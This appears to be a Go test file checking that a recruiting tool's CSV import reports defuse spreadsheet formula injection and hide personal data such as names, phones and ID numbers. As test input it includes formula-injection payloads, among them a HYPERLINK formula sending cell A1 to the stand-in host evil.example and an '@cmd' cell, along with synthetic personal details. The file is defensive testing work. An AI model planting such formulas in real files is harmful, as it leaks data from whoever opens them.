package ingest_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xiaoqi-dev/xiaoqi"
	"github.com/xiaoqi-dev/xiaoqi/ingest"
)

// readReport parses a downloadable report.
func readReport(t *testing.T, s string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(s, "\ufeff")))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("report: %v\n%s", err, s)
	}
	return recs
}

// TestReportCSVShape: a file saved with a trailing empty column (as Excel writes a sheet
// once formatted wider) gives a report whose rows have as many fields as its header, and a
// cell that Excel would run as a formula (= + - @) is written with an apostrophe before it.
func TestReportCSVShape(t *testing.T) {
	t.Parallel()
	path := writeFile(t, "jobs.csv", []byte(csvLines(
		"岗位名称,公司名称,城市,招聘人数,",
		`"=HYPERLINK(""http://example.com/x"",""点我"")",西安合成软件有限公司,西安,3.5,`,
		"测试工程师,@SUM(1+1),西安,-3+2,",
		`运维工程师,西安合成软件有限公司,"西安,3`, // not closed: the rest of the file is one row the report cannot split
	)))
	var out strings.Builder
	mustImport(t, openStore(t), path, ingest.Options{Type: xiaoqi.KindJob, Mode: ingest.ModeDryRun, ReportCSV: ingest.NewCSVWriter(&out)})
	recs := readReport(t, out.String())
	if len(recs) != 4 || len(recs[1]) < 4 {
		t.Fatalf("report:\n%s", out.String())
	}
	for i, r := range recs {
		if len(r) != len(recs[0]) {
			t.Errorf("line %d has %d fields, the header %d: %q", i+1, len(r), len(recs[0]), r)
		}
	}
	if got := recs[1][3]; got != `'=HYPERLINK("http://example.com/x","点我")` {
		t.Errorf("formula cell written as %q, want it behind an apostrophe", got)
	}
	if recs[2][4] != "'@SUM(1+1)" || recs[2][6] != "'-3+2" {
		t.Errorf("row 3 written as %q, want @ and - cells behind an apostrophe", recs[2])
	}
}

// TestReportCSVHeaderFormulas: the header of the uploaded file is written into the report as
// the file had it, so a column named like a formula is written behind an apostrophe too (it
// ran when the report was opened in Excel: only the rows' cells were defused).
func TestReportCSVHeaderFormulas(t *testing.T) {
	t.Parallel()
	path := writeFile(t, "jobs.csv", []byte(csvLines(
		`岗位名称,公司名称,城市,招聘人数,"=HYPERLINK(""http://evil.example/""&A1,""click"")",@cmd,+1,-x`,
		",西安合成软件有限公司,西安,3,=1+1,a,b,c", // no title: an error
	)))
	var out strings.Builder
	mustImport(t, openStore(t), path, ingest.Options{Type: xiaoqi.KindJob, Mode: ingest.ModeDryRun, ReportCSV: ingest.NewCSVWriter(&out)})
	recs := readReport(t, out.String())
	if len(recs) != 2 {
		t.Fatalf("report:\n%s", out.String())
	}
	want := []string{`'=HYPERLINK("http://evil.example/"&A1,"click")`, "'@cmd", "'+1", "'-x"}
	if got := recs[0][len(recs[0])-4:]; strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("header cells written as %q, want %q", got, want)
	}
	if got := recs[1][len(recs[1])-4]; got != "'=1+1" {
		t.Errorf("row cell written as %q, want '=1+1", got)
	}
}

// TestReportCSVCandidates: the report of a candidate import that others may download hides the
// cells of personal columns (name, phone, e-mail, birth date, and columns named as IDs, phones
// or messenger accounts that no field takes), shows the 学号 the uploader finds rows by, and
// takes phones, e-mail addresses and ID numbers out of the text of other cells.
func TestReportCSVCandidates(t *testing.T) {
	t.Parallel()
	path := writeFile(t, "students.csv", []byte(csvLines(
		"学号,姓名,手机,联系电话,微信号,身份证号,邮箱,出生日期,毕业院校,专业,毕业年份,个人简介,紧急联系人,推荐人,社保卡号,现居住地址",
		"2020010101,张合成,13800138000,029-88886666,zhanghecheng_88,61010119990501123X,zhc@example.com,1999-05-01,,软件工程,2024,"+
			"熟悉 Java，电话 138 0013 8000，邮箱 zhc(at)example.com，微信：zhc_1999,周伯通,赵敏,SB1234567,西安市雁塔区某小区",
	)))
	var out strings.Builder
	rep := mustImport(t, openStore(t), path, ingest.Options{Type: xiaoqi.KindCandidate, Mode: ingest.ModeDryRun,
		ReportCSV: ingest.NewCSVWriter(&out), HidePersonal: true})
	if rep.Invalid != 1 {
		t.Fatalf("want the row to fail (no school with a major):%s", problems(rep))
	}
	recs := readReport(t, out.String())
	head, row := recs[0][3:], recs[1][3:]
	got := map[string]string{}
	for i, h := range head {
		got[h] = row[i]
	}
	if got["学号"] != "2020010101" || got["专业"] != "软件工程" || got["毕业年份"] != "2024" {
		t.Errorf("学号, 专业 and 毕业年份 hidden or changed: %q", got)
	}
	// Other people's names (紧急联系人, 推荐人), a card number and an address were written out.
	for _, h := range []string{"姓名", "手机", "联系电话", "微信号", "身份证号", "邮箱", "出生日期", "紧急联系人", "推荐人", "社保卡号", "现居住地址"} {
		if got[h] != "[已隐藏 hidden]" {
			t.Errorf("%s written as %q, want it hidden", h, got[h])
		}
	}
	about := got["个人简介"]
	for _, leak := range []string{"0013", "example.com", "zhc_1999"} {
		if strings.Contains(about, leak) {
			t.Errorf("个人简介 written as %q: %q left in", about, leak)
		}
	}
	if !strings.Contains(about, "熟悉 Java") {
		t.Errorf("个人简介 written as %q: the rest of the text is gone", about)
	}
	if strings.Contains(out.String(), "张合成") {
		t.Errorf("the name is in the report:\n%s", out.String())
	}
}

// TestProblemValuesOfCandidates: a problem repeats the value of its cell, which an import job
// keeps and shows (GET /api/v1/imports/{id}, the admin page), with no erasure reaching it. The
// personal columns were left out, but a summary held as written: a NUL in it made a warning
// whose value was the whole text, with the person's name, phone and ID number, which the
// downloadable report of the same row hides. A cell under no header was quoted in the message.
func TestProblemValuesOfCandidates(t *testing.T) {
	t.Parallel()
	path := writeFile(t, "students.csv", []byte(csvLines(
		"学号,姓名,手机,个人简介,技能",
		"S010,牛魔王,13611110010,\"牛魔王 电话13611110010 身份证610102199001021235\x01 熟悉Java\",Java,13699998888",
	)))
	rep := mustImport(t, openStore(t), path, ingest.Options{Type: xiaoqi.KindCandidate, Mode: ingest.ModeDryRun})
	if !hasProblem(rep, ingest.LevelWarning, 2, "个人简介", "控制字符") {
		t.Fatalf("want a warning on the control character:%s", problems(rep))
	}
	for _, p := range rep.Problems {
		for _, leak := range []string{"牛魔王", "13611110010", "610102199001021235", "13699998888"} {
			if strings.Contains(p.Value, leak) || strings.Contains(p.String(), leak) {
				t.Errorf("problem %s holds %q", p.String(), leak)
			}
		}
		if p.Column == "个人简介" && !strings.Contains(p.Value, "熟悉Java") {
			t.Errorf("the value of 个人简介 lost what is not personal: %q", p.Value)
		}
	}
}
